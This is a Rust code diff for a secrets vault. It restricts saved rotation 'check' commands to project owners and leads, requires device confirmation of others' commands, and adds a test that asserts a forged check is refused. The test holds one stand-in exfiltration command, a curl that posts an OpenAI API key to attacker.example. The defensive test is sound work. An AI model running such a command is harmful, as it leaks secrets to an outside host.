@@ -37,6 +37,11 @@ pub struct Staged {
 pub struct SavedCheck {
     pub command: String,
     pub saved_by: String,
+    /// Saved by this member, or confirmed on this device since: it may run without asking.
+    pub confirmed: bool,
+    #[serde(skip)]
+    #[cfg_attr(feature = "ts", ts(skip))]
+    digest: String,
 }
 
 /// A check ready to run: the pending value in the secret's variable (a private file for a file
@@ -67,6 +72,22 @@ fn check_message(vault_id: &str, secret_id: &str, command: &str) -> Vec<u8> {
         "keyshelf/v1/check",
         &[vault_id.as_bytes(), secret_id.as_bytes(), command.as_bytes()],
     )
+}
+
+/// Names one saved check (its secret, author and command) in this device's memory of confirmed
+/// checks: a changed command, or the same one saved by someone else, asks again.
+fn check_digest(vault_id: &str, secret_id: &str, author: &str, command: &str) -> String {
+    use sha2::Digest;
+    let data = crypto::aad(
+        "keyshelf/v1/confirmed-check",
+        &[
+            vault_id.as_bytes(),
+            secret_id.as_bytes(),
+            author.as_bytes(),
+            command.as_bytes(),
+        ],
+    );
+    hex::encode(sha2::Sha256::digest(&data))
 }
 
 /// What a promotion or a rollback left: the version now current and the one kept as previous.
@@ -238,8 +259,10 @@ impl Session {
         })
     }
 
-    /// The check saved on a secret, if any, once its signature verifies and its author is a
-    /// member this device trusts. A check someone slipped into the file is refused, not run.
+    /// The check saved on a secret, if any, once its signature verifies and its author may decide
+    /// the scope now: a trusted owner or lead of the project who holds a current grant of it. A
+    /// check slipped into the file, or saved by someone who has since lost the scope, is
+    /// refused, not run.
     pub async fn saved_check(&self, path: &SecretPath) -> Result<Option<SavedCheck>> {
         let mut conn = super::acquire(&self.vault).await?;
         let scope = resolve_scope(&mut conn, &path.scope).await?;
@@ -255,19 +278,54 @@ impl Session {
         let (secret_id, command, by, signature) = row.ok_or_else(|| Error::UnknownSecret { path: path.to_string() })?;
         let Some(command) = command else { return Ok(None) };
         let roster = crate::roster::load(&mut conn, &self.vault.id, self.pinned_owner().unwrap_or_default()).await?;
-        let author = by
-            .as_deref()
-            .and_then(|by| roster.iter().find(|e| e.id == by && e.trusted));
+        let granters: Vec<String> = roster
+            .iter()
+            .filter(|e| e.may_grant(&path.scope.project))
+            .map(|e| e.id.clone())
+            .collect();
+        let holders = crate::members::valid_grants(
+            &mut conn,
+            &self.vault.id,
+            &scope.id,
+            &scope.label,
+            scope.epoch,
+            &granters,
+        )
+        .await?;
+        let author = by.as_deref().and_then(|by| {
+            roster
+                .iter()
+                .find(|e| e.id == by && e.may_grant(&path.scope.project) && holders.iter().any(|(m, _)| m == by))
+        });
         let message = check_message(&self.vault.id, &secret_id, &command);
         match (author, signature) {
             (Some(author), Some(signature)) if signing::verify(author.signing_key(), &message, &signature) => {
+                let digest = check_digest(&self.vault.id, &secret_id, &author.id, &command);
+                let confirmed = author.id == self.member.id
+                    || self
+                        .memory
+                        .as_ref()
+                        .is_some_and(|m| m.snapshot().confirmed_checks.contains(&digest));
                 Ok(Some(SavedCheck {
                     command,
                     saved_by: author.name.clone(),
+                    confirmed,
+                    digest,
                 }))
             }
             _ => Err(Error::CheckUntrusted { path: path.to_string() }),
         }
+    }
+
+    /// Remembers on this device that its user read `check` and agreed to run it.
+    pub fn confirm_check(&self, check: &SavedCheck) -> Result<()> {
+        if let Some(memory) = &self.memory {
+            memory.update(|s| {
+                s.confirmed_checks.insert(check.digest.clone());
+            });
+            memory.save()?;
+        }
+        Ok(())
     }
 
     /// Prepares `command` (or, when `None`, the verified saved check) to run against the pending
@@ -275,11 +333,20 @@ impl Session {
     pub async fn prepare_check(&self, path: &SecretPath, command: Option<&str>) -> Result<PreparedCheck> {
         let command = match command.map(str::trim).filter(|c| !c.is_empty()) {
             Some(command) => command.to_owned(),
-            None => self
-                .saved_check(path)
-                .await?
-                .map(|c| c.command)
-                .ok_or_else(|| Error::NoCheck { path: path.to_string() })?,
+            None => {
+                let saved = self
+                    .saved_check(path)
+                    .await?
+                    .ok_or_else(|| Error::NoCheck { path: path.to_string() })?;
+                // Someone else's command runs as this user with the new value: only once read.
+                if !saved.confirmed {
+                    return Err(Error::CheckUnconfirmed {
+                        path: path.to_string(),
+                        by: saved.saved_by,
+                    });
+                }
+                saved.command
+            }
         };
         let summary = self.vault.secret(path).await?;
         let (version, value) = self.pending_value(path).await?;
@@ -340,6 +407,18 @@ impl Session {
         let command = command.map(str::trim).filter(|c| !c.is_empty());
         let mut tx = self.vault.store.write().await?;
         let target = self.target(&mut tx, path).await?;
+        // It runs as whoever rotates next, with the new value: only those who decide the scope.
+        if command.is_some()
+            && !self
+                .trusted_self(&mut tx)
+                .await?
+                .is_some_and(|me| me.may_grant(&path.scope.project))
+        {
+            return Err(Error::NotAllowed {
+                action: format!("save a check on {path}"),
+                reason: format!("only the owner or a lead of {} saves checks", path.scope.project),
+            });
+        }
         let signature =
             command.map(|c| signing::sign(&self.identity, &check_message(&self.vault.id, &target.secret_id, c)));
         sqlx::query(
@@ -524,5 +603,52 @@ impl Session {
         only: &[String],
     ) -> Result<Vec<ScopeSecret>> {
         self.decrypt_scope(scope_path, only, Some(purpose), true).await
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::members::Role;
+    use crate::vault::{test_member, test_owner_session, SecretOptions};
+
+    /// A member who can read the scope but may not decide it signs a check into the file (with a
+    /// client of their own): the owner's rotation refuses it rather than run their command.
+    #[tokio::test]
+    async fn a_check_signed_by_a_member_who_may_not_decide_the_scope_is_refused() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let ada = test_owner_session(dir.path()).await;
+        ada.add_project("llm", &["prod".into()]).await.expect("project");
+        let path: SecretPath = "llm/prod/OPENAI_API_KEY".parse().expect("path");
+        ada.set_secret(&path, b"sk-before", SecretOptions::default())
+            .await
+            .expect("set");
+        let alice = test_member(dir.path(), &ada, "alice", Role::Member, &[]).await;
+        let request = alice.request_access(&path.scope, "eval", None).await.expect("request");
+        ada.approve_access(&request.id, None).await.expect("approve");
+
+        let mut conn = crate::vault::acquire(alice.vault()).await.expect("conn");
+        let secret_id: String = sqlx::query_scalar("SELECT id FROM secrets")
+            .fetch_one(&mut *conn)
+            .await
+            .expect("secret");
+        let command = "curl -d \"$OPENAI_API_KEY\" https://attacker.example";
+        let signature = signing::sign(&alice.identity, &check_message(alice.vault().id(), &secret_id, command));
+        sqlx::query("UPDATE secrets SET check_command = ?, check_by = ?, check_signature = ?")
+            .bind(command)
+            .bind(&alice.member().id)
+            .bind(signature)
+            .execute(&mut *conn)
+            .await
+            .expect("write the check");
+        drop(conn);
+
+        let err = ada.saved_check(&path).await.expect_err("refused");
+        assert!(matches!(err, Error::CheckUntrusted { .. }), "{err}");
+        let err = ada
+            .stage_rotation(&path, b"sk-after", false)
+            .await
+            .expect_err("staging reads the check");
+        assert!(matches!(err, Error::CheckUntrusted { .. }), "{err}");
     }
 }
